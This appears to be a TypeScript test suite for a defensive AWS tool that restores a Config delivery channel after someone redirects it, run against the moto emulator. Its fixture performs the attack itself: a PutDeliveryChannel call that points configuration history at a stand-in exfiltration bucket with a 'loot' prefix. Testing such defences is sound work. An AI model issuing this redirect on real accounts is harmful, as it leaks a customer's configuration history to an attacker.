/** protect-backstops restores a redirected AWS Config delivery channel (PutDeliveryChannel) on the moto emulator. */
import { ConfigServiceClient, PutDeliveryChannelCommand } from '@aws-sdk/client-config-service';
import { SNSClient } from '@aws-sdk/client-sns';
import { SQSClient } from '@aws-sdk/client-sqs';
import { createRecorder, prepareRecorderBaseline, recorderState } from '../../../scripts/lib/emulator-backstops';
import { loadEvent } from '../../../scripts/lib/events';
import { createInbox, type Inbox } from '../../../scripts/lib/inbox';
import { scheduledEvent } from '../../../shared/events/trigger';
import { handleEvent } from '../../../shared/pipeline';
import { backstops } from '../../../shared/remediations/backstops';
import { motoDeps, resetEmulator } from '../../support/deps';

const config = new ConfigServiceClient({ region: 'us-east-1' });
let inbox: Inbox;
let baseline: Record<string, string>;
let n = 0;

beforeEach(async () => {
  await resetEmulator();
  n += 1;
  inbox = await createInbox(new SNSClient({ region: 'us-east-1' }), new SQSClient({ region: 'us-east-1' }), `channel-alerts-${n}`, `channel-ops-${n}`);
  baseline = await prepareRecorderBaseline(`baseline-${n}`, 'us-east-1');
  await createRecorder('us-east-1', baseline);
});

const deps = (env: Record<string, string> = {}) => motoDeps({ ALERT_TOPIC_ARN: inbox.topicArn, ...baseline, ...env });
/** The events/ sample: mallory redirects the channel to exfil-config-history-198511/loot, with a daily snapshot. */
const putEvent = () => loadEvent('../../../events/protect-backstops.cloudtrail-putdeliverychannel');
const redirect = () => config.send(new PutDeliveryChannelCommand({ DeliveryChannel: { name: 'default', s3BucketName: 'exfil-config-history-198511', s3KeyPrefix: 'loot', configSnapshotDeliveryProperties: { deliveryFrequency: 'TwentyFour_Hours' } } }));

it('puts the baseline bucket and prefix back on a redirected delivery channel', async () => {
  // Prepare
  await redirect();

  // Act
  const result = await handleEvent(backstops, putEvent(), deps());

  // Assess
  expect([result.outcome, result.headline]).toEqual(['remediated', 'Config recorder default delivery channel restored']);
  expect((await recorderState('us-east-1')).channels).toEqual([expect.objectContaining({ s3BucketName: baseline.CONFIG_DELIVERY_BUCKET, s3KeyPrefix: 'config' })]);
});

it('keeps the snapshot frequency the customer set on the channel', async () => {
  await redirect();

  await handleEvent(backstops, putEvent(), deps());

  expect((await recorderState('us-east-1')).channels[0]?.configSnapshotDeliveryProperties).toEqual({ deliveryFrequency: 'TwentyFour_Hours' });
});

it('tells ops where the channel delivered, and how to undo the repair', async () => {
  await redirect();

  const result = await handleEvent(backstops, putEvent(), deps());

  expect(result.actions).toEqual([
    expect.objectContaining({ api: 'PutDeliveryChannel', status: 'done', before: 's3://exfil-config-history-198511/loot', after: `s3://${baseline.CONFIG_DELIVERY_BUCKET}/config`, undo: expect.stringContaining('put-delivery-channel --delivery-channel') }),
  ]);
  const [message] = await inbox.drain();
  expect(message?.subject).toMatch(/^\[REMEDIATED\] Config recorder default delivery channel restored/);
});

it('changes nothing when the channel still delivers to the baseline', async () => {
  const result = await handleEvent(backstops, putEvent(), deps());

  expect(result.outcome).toBe('already-compliant');
});

it('writes nothing in report mode and prints the command that restores the channel', async () => {
  await redirect();

  const result = await handleEvent(backstops, putEvent(), deps({ REMEDIATION_MODE: 'report' }));

  expect(result.outcome).toBe('reported');
  expect(result.actions[0]?.command).toContain(`"s3BucketName":"${baseline.CONFIG_DELIVERY_BUCKET}"`);
  expect((await recorderState('us-east-1')).channels[0]?.s3BucketName).toBe('exfil-config-history-198511');
});

it('restores a redirected channel found by the sweep (its event lost)', async () => {
  await redirect();

  const result = await handleEvent(backstops, scheduledEvent('111122223333', 'us-east-1', { id: `sweep-${n}` }), deps());

  expect(result.outcome).toBe('remediated');
  expect((await recorderState('us-east-1')).channels[0]?.s3BucketName).toBe(baseline.CONFIG_DELIVERY_BUCKET);
});

it('leaves a redirected channel alone without a recorder baseline (no bucket to judge it by)', async () => {
  await redirect();

  const result = await handleEvent(backstops, putEvent(), motoDeps({ ALERT_TOPIC_ARN: inbox.topicArn }));

  expect(result.outcome).toBe('already-compliant');
  expect((await recorderState('us-east-1')).channels[0]?.s3BucketName).toBe('exfil-config-history-198511');
});
